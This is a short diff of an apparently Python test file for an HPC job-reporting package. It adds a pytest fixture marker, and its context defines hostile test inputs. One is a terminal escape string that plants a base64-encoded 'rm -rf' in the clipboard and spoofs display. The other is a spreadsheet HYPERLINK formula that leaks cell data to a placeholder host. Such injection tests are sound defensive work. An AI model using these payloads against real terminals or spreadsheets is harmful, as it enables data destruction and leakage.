@@ -15,6 +15,8 @@ from nqs_hpc.library.sweep import load_sweep
 from nqs_hpc.report.page import report
 from nqs_hpc.report.status import status
 
+pytestmark = pytest.mark.usefixtures("quick")
+
 ATTACK = "\x1b[2J\x1b]52;c;cm0gLXJmCg==\x07\r\n\u202efake\x9b31m"
 FORMULA = '=HYPERLINK("http://x/"&A1)'
 START = {"time": "", "step": 0, "n_ranks": 1, "hosts": [ATTACK], "reason": ATTACK, "slurm_job": ATTACK, "seconds": {}}
